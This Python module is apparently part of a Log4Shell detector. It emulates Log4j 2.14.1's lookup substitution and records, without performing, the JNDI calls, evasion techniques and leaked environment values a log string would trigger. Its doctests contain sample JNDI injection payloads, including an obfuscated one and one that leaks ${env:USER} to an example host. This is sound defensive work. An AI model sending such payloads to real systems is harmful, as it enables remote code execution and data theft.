"""A Log4j 2.x (up to 2.14.1) lookup interpreter that records, never performs, lookups.

The substitution loop follows ``StrSubstitutor.substitute`` of log4j-core 2.14.1
step for step (prefix ``${``, suffix ``}``, escape ``$``, defaults ``:-`` and the
``:\\-`` escaped delimiter, variable names substituted first, values substituted
again, the cycle check that raises), the prefix dispatch follows
``Interpolator.lookup`` (prefix lower-cased, unknown or null lookups fall back to
the configuration properties with the rest of the name) and the outer loop follows
``MessagePatternConverter.format``, which substitutes the whole message again each
time it meets another ``${`` further right.

Values that only the victim knows are modelled the way the differential tests run
Log4j: ``env``, ``sys`` and the context lookups are unset (so ``:-`` defaults
apply and a lookup without a default stays in the text, verbatim), while lookups
that always answer (``${java:version}``, ``${hostName}``) answer a placeholder
``⟪java:version⟫``. Both are reported as exfiltration targets when they end up
inside a JNDI name.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from detectors.model import LIMIT_DEPTH, LIMIT_STEPS

#: Bounds on the work for one string (see :class:`Limits`).
DEFAULT_MAX_DEPTH = 32
DEFAULT_MAX_STEPS = 1024

PLACEHOLDER_OPEN = "\u27ea"
PLACEHOLDER_CLOSE = "\u27eb"
_PLACEHOLDER = re.compile("\u27ea([^\u27ea\u27eb]{1,200})\u27eb")

_JAVA_KEYS = frozenset({"version", "runtime", "vm", "os", "hw", "locale"})
_EVENT_KEYS = frozenset(
    {"ThreadName", "Level", "ThreadId", "Timestamp", "Logger", "Message"}
)
_LOG4J_KEYS = frozenset({"configLocation", "configParentLocation"})
# Configuration properties every LoggerContext defines (LoggerContext.setConfiguration).
_CONTEXT_PROPERTIES = frozenset({"hostName", "contextName"})
# Lookups whose answer depends on the victim and is unknown here: modelled as unset.
_UNSET_LOOKUPS = {
    "env": "env-lookup",
    "sys": "sys-lookup",
    "ctx": "context-lookup",
    "main": "context-lookup",
    "map": "context-lookup",
    "sd": "context-lookup",
    "marker": "context-lookup",
    "bundle": "context-lookup",
    "jvmrunargs": "context-lookup",
}
#: Every prefix log4j-core 2.14.1 registers as a lookup plugin.
KNOWN_PREFIXES = frozenset(
    {"jndi", "lower", "upper", "date", "java", "log4j", "event", *_UNSET_LOOKUPS}
)


class _Abort(Exception):
    """Log4j itself throws here: evaluation of the message stops."""

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


class _LimitReached(Exception):
    def __init__(self, kind: str) -> None:
        super().__init__(kind)
        self.kind = kind


@dataclass(frozen=True, slots=True)
class Limits:
    """Work bounds for one evaluation.

    Args:
        max_depth: deepest nesting of substitutions (names and values) followed.
        max_steps: lookups, escapes and braces scanned, summed over the string.

    Example:
        >>> Limits(max_depth=8).max_steps
        1024
    """

    max_depth: int = DEFAULT_MAX_DEPTH
    max_steps: int = DEFAULT_MAX_STEPS


@dataclass(frozen=True, slots=True)
class JndiCall:
    """One call Log4j makes to its ``jndi`` lookup.

    Args:
        name: exactly the key ``JndiLookup.lookup`` receives.
        display: the name with victim values written ``${env:NAME}``.
        exfil: victim values inside the name.
        rescan: reached only in a second pass of the message converter.

    Example:
        >>> evaluate("${jndi:ldap://${env:USER}.example.com/a}").jndi[0].exfil
        ('env:USER',)
    """

    name: str
    display: str
    exfil: tuple[str, ...]
    rescan: bool


@dataclass(slots=True)
class Evaluation:
    """Everything one evaluation of a string saw.

    Args:
        output: the message after substitution (as far as it got).
        jndi: the JNDI lookups made, in order (repeats kept).
        names: every variable name resolved, in order.
        techniques: technique tags observed.
        aborted: ``recursion`` or ``illegal-argument`` when Log4j would throw.
        limit_hit: the work bound that stopped evaluation, if any.
        steps: work done, in the units of :attr:`Limits.max_steps`.

    Example:
        >>> evaluate("${${::-${::-$${::-j}}}}").aborted
        'recursion'
    """

    output: str = ""
    jndi: list[JndiCall] = field(default_factory=list)
    names: list[str] = field(default_factory=list)
    techniques: set[str] = field(default_factory=set)
    aborted: str | None = None
    limit_hit: str | None = None
    steps: int = 0


def evaluate(value: str, limits: Limits | None = None) -> Evaluation:
    """Evaluate ``value`` as a log message the way Log4j 2.14.1 would.

    Example:
        >>> [c.name for c in evaluate("${${lower:J}ndi:ldap://example.com/a}").jndi]
        ['ldap://example.com/a']
    """
    run = _Run(limits or Limits())
    result = run.evaluation
    try:
        result.output = run.message(value)
    except _Abort as exc:
        result.aborted = exc.reason
        if exc.reason == "recursion":
            result.techniques.add("recursion")
    except _LimitReached as exc:
        result.limit_hit = exc.kind
    except RecursionError:
        result.limit_hit = LIMIT_DEPTH
    result.steps = run.steps

    return result


def _split_default(expr: str) -> tuple[str, str | None]:
    """Split ``name:-default`` like StrSubstitutor, including the ``:\\-`` escape.

    StrSubstitutor tries both delimiters at each position from the left; they
    cannot match at the same position, so the leftmost match of either decides.
    """
    cut = expr.find(":-")
    escaped = expr.find(":\\-") if "\\" in expr else -1
    if escaped < 0 or 0 <= cut < escaped:
        if cut < 0:
            return expr, None
        return expr[:cut], expr[cut + 2 :]
    # Log4j keeps the escaped delimiter as ':' + '-' in the name, then looks for
    # a real delimiter further right.
    prefix = expr[:escaped] + ":"
    cut = expr.find(":-", escaped + 3)
    if cut >= 0:
        return prefix + expr[escaped + 3 : cut], expr[cut + 2 :]

    return prefix + expr[escaped + 2 :], None


class _Run:
    """State of one evaluation: counters, recorder, techniques."""

    def __init__(self, limits: Limits) -> None:
        self.limits = limits
        self.steps = 0
        self.evaluation = Evaluation()
        self.victims: list[tuple[str, str]] = []
        # victim lookups that fell back to their default: (canonical, default)
        self.defaulted: list[tuple[str, str]] = []
        self.last_victim: str | None = None
        self.pass_no = 0

    # -- MessagePatternConverter.format -------------------------------------------

    def message(self, value: str) -> str:
        text = value
        index = 0
        seen_first_pass: set[str] = set()
        while True:
            found = text.find("${", index)
            if found < 0:
                break
            self.pass_no += 1
            before = len(self.evaluation.jndi)
            substituted = self._subst(text, None, 0)
            calls = self.evaluation.jndi
            if self.pass_no == 1:
                seen_first_pass.update(c.name for c in calls)
            for i in range(before, len(calls)):
                if calls[i].name not in seen_first_pass:
                    call = calls[i]
                    calls[i] = JndiCall(call.name, call.display, call.exfil, True)
                    self.evaluation.techniques.add("rescan")
            if substituted == text:
                # Every later pass would see the same text and repeat the same
                # lookups: nothing new can come of it.
                break
            text = substituted
            index = found + 1

        return text

    # -- StrSubstitutor.substitute ----------------------------------------------------

    def _step(self) -> None:
        self.steps += 1
        if self.steps > self.limits.max_steps:
            raise _LimitReached(LIMIT_STEPS)

    def _subst(self, s: str, prior: list[str] | None, depth: int) -> str:
        """Substitute every variable in ``s``; returns the region's new content."""
        if depth > self.limits.max_depth:
            raise _LimitReached(LIMIT_DEPTH)
        out: list[str] = []
        tail = ""  # last character of `out`
        seg = 0
        pos = 0
        while True:
            p = s.find("${", pos)
            if p < 0:
                break
            prev = s[p - 1] if p > seg else tail
            if prev == "$":
                # `$${` : Log4j deletes the escape and scans on from the brace.
                self._step()
                self.evaluation.techniques.add("escape")
                if p > seg:
                    out.append(s[seg : p - 1])
                    seg = p
                else:
                    _drop_last_char(out)
                tail = _last_char(out)
                pos = p + 1
                continue
            end = self._match(s, p + 2)
            if end < 0:
                break
            expr = s[p + 2 : end]
            if "${" in expr:
                substituted = self._subst(expr, None, depth + 1)
                if substituted != expr:
                    self.evaluation.techniques.add("nested")
                expr = substituted
            name, default = _split_default(expr)
            if prior is None:
                prior = ["".join(out) + s[seg:]]
            if name in prior:
                raise _Abort("recursion")
            prior.append(name)
            self.last_victim = None
            value = self._resolve(name, s[p : end + 1])
            if value is None and default is not None:
                value = default
                self.evaluation.techniques.add("default-value")
                if self.last_victim is not None:
                    self.defaulted.append((self.last_victim, default))
            if value is not None:
                if "${" in value:
                    value = self._subst(value, prior, depth + 1)
                out.append(s[seg:p])
                out.append(value)
                if value:
                    tail = value[-1]
                elif p > seg:
                    tail = s[p - 1]
                seg = end + 1
            prior.pop()
            pos = end + 1
        if not out:
            return s
        out.append(s[seg:])

        return "".join(out)

    def _match(self, s: str, start: int) -> int:
        """Index of the ``}`` closing a variable whose name starts at ``start``."""
        nested = 0
        pos = start
        limit = self.limits.max_steps
        while True:
            self.steps += 1
            if self.steps > limit:
                raise _LimitReached(LIMIT_STEPS)
            close = s.find("}", pos)
            if close < 0:
                return -1
            nested += s.count("${", pos, close)
            if nested == 0:
                return close
            if nested > self.limits.max_depth:
                raise _LimitReached(LIMIT_DEPTH)
            nested -= 1
            pos = close + 1

    # -- Interpolator.lookup ----------------------------------------------------------

    def _resolve(self, name: str, raw: str) -> str | None:
        self.steps += 1
        if self.steps > self.limits.max_steps:
            raise _LimitReached(LIMIT_STEPS)
        evaluation = self.evaluation
        evaluation.names.append(name)
        colon = name.find(":")
        if colon >= 0:
            written = name[:colon]
            prefix = written.lower()
            key = name[colon + 1 :]
            if written != prefix and prefix in KNOWN_PREFIXES:
                evaluation.techniques.add("prefix-case")
            value = self._lookup(prefix, key, raw)
            if value is not None:
                return value
            name = key
        if not name.strip(":"):
            evaluation.techniques.add("empty-key")
        if name in _CONTEXT_PROPERTIES:
            evaluation.techniques.add("context-lookup")
            return PLACEHOLDER_OPEN + name + PLACEHOLDER_CLOSE

        return None

    def _lookup(self, prefix: str, key: str, raw: str) -> str | None:
        techniques = self.evaluation.techniques
        if prefix == "jndi":
            self._record_jndi(key)
            return None
        if prefix in {"lower", "upper"}:
            techniques.add(prefix)
            value = key.lower() if prefix == "lower" else key.upper()
            if not key.isascii() and _ascii_count(value) > _ascii_count(key):
                techniques.add("unicode-case")
            return value
        if prefix in _UNSET_LOOKUPS:
            techniques.add(_UNSET_LOOKUPS[prefix])
            self.last_victim = f"{prefix}:{key}"
            self.victims.append((self.last_victim, raw))
            return None
        if prefix == "date":
            techniques.add("date-lookup")
            return format_date(key)
        if prefix == "java":
            techniques.add("java-lookup")
            if key not in _JAVA_KEYS:
                raise _Abort("illegal-argument")
            return f"{PLACEHOLDER_OPEN}java:{key}{PLACEHOLDER_CLOSE}"
        if prefix == "event":
            techniques.add("context-lookup")
            if key in _EVENT_KEYS:
                return f"{PLACEHOLDER_OPEN}event:{key}{PLACEHOLDER_CLOSE}"
            return None
        if prefix == "log4j":
            techniques.add("context-lookup")
            if key in _LOG4J_KEYS:
                return f"{PLACEHOLDER_OPEN}log4j:{key}{PLACEHOLDER_CLOSE}"
            return None
        if prefix:
            techniques.add("unknown-lookup")

        return None

    def _record_jndi(self, name: str) -> None:
        exfil: list[str] = []
        display = name
        for canonical, raw in self.victims:
            if raw in display:
                display = display.replace(raw, "${" + canonical + "}")
                if canonical not in exfil:
                    exfil.append(canonical)
        # `${env:USER:-unknown}` sends "unknown" here but the user name on a victim
        # that has one: a fallback of two or more characters that lands after the
        # scheme's `//` is an exfiltration attempt, not the one-letter filler of
        # `${env:NaN:-j}`.
        authority = name.find("//")
        if authority >= 0:
            after = name[authority + 2 :]
            for canonical, default in self.defaulted:
                if len(default) >= 2 and default in after and canonical not in exfil:
                    exfil.append(canonical)
        if PLACEHOLDER_OPEN in display:
            for match in _PLACEHOLDER.finditer(display):
                if match.group(1) not in exfil:
                    exfil.append(match.group(1))
            display = _PLACEHOLDER.sub(r"${\1}", display)
        if exfil:
            self.evaluation.techniques.add("exfiltration")
            # in the order they appear in the target; fallbacks last
            exfil.sort(key=lambda c: display.find("${" + c + "}") % (len(display) + 1))
        self.evaluation.jndi.append(JndiCall(name, display, tuple(exfil), False))


def _last_char(chunks: list[str]) -> str:
    for chunk in reversed(chunks):
        if chunk:
            return chunk[-1]

    return ""


def _drop_last_char(chunks: list[str]) -> None:
    for i in range(len(chunks) - 1, -1, -1):
        if chunks[i]:
            chunks[i] = chunks[i][:-1]
            return


def _ascii_count(text: str) -> int:
    return sum(1 for c in text if c < "\x80")


# -- DateLookup: java.text.SimpleDateFormat over a fixed instant -------------------

#: The instant date lookups format: 1 ms after the Unix epoch, in UTC (Log4j's event
#: builder reads a time of 0 as "now"). The victim's clock is unknown; the
#: differential tests give Log4j the same instant, time zone and locale.
_EPOCH_FIELDS = {
    "G": ("AD", "AD"),
    "y": ("1970", "70"),
    "Y": ("1970", "70"),
    "M": ("1", "Jan", "January"),
    "L": ("1", "Jan", "January"),
    "w": ("1",),
    "W": ("1",),
    "D": ("1",),
    "d": ("1",),
    "F": ("1",),
    "E": ("Thu", "Thursday"),
    "u": ("4",),
    "a": ("AM",),
    "H": ("0",),
    "k": ("24",),
    "K": ("0",),
    "h": ("12",),
    "m": ("0",),
    "s": ("0",),
    "S": ("1",),
    "z": ("UTC", "Coordinated Universal Time"),
    "Z": ("+0000",),
    "X": ("Z",),
}
#: What ``DateFormat.getInstance()`` prints for that instant (en-US, Java 17).
DEFAULT_DATE_TEXT = "1/1/70, 12:00 AM"


def format_date(pattern: str) -> str:
    """Format the epoch with a SimpleDateFormat pattern; bad patterns give the default.

    Example:
        >>> format_date("'j'")
        'j'
    """
    out: list[str] = []
    i = 0
    n = len(pattern)
    while i < n:
        c = pattern[i]
        if c == "'":
            if i + 1 < n and pattern[i + 1] == "'":
                out.append("'")
                i += 2
                continue
            close = i + 1
            literal: list[str] = []
            while True:
                close = pattern.find("'", close)
                if close < 0:
                    return DEFAULT_DATE_TEXT  # unterminated quote
                if close + 1 < n and pattern[close + 1] == "'":
                    literal.append(pattern[i + 1 : close] + "'")
                    i = close + 1
                    close += 2
                    continue
                literal.append(pattern[i + 1 : close])
                break
            out.append("".join(literal))
            i = close + 1
            continue
        if ("a" <= c <= "z") or ("A" <= c <= "Z"):
            run = i
            while run < n and pattern[run] == c:
                run += 1
            count = run - i
            forms = _EPOCH_FIELDS.get(c)
            if forms is None:
                return DEFAULT_DATE_TEXT  # illegal pattern character
            out.append(_date_field(c, count, forms))
            i = run
            continue
        out.append(c)
        i += 1

    return "".join(out)


def _date_field(letter: str, count: int, forms: tuple[str, ...]) -> str:
    if letter in "MLE" or letter in "Gz":
        if letter in "ML" and count <= 2:
            return forms[0].zfill(count)
        if letter in "ML":
            return forms[1] if count == 3 else forms[2]
        return forms[0] if count < 4 else forms[-1]
    if letter in "yY":
        return forms[1] if count == 2 else forms[0].zfill(count)
    if letter in "aZX":
        return forms[0]

    return forms[0].zfill(count)
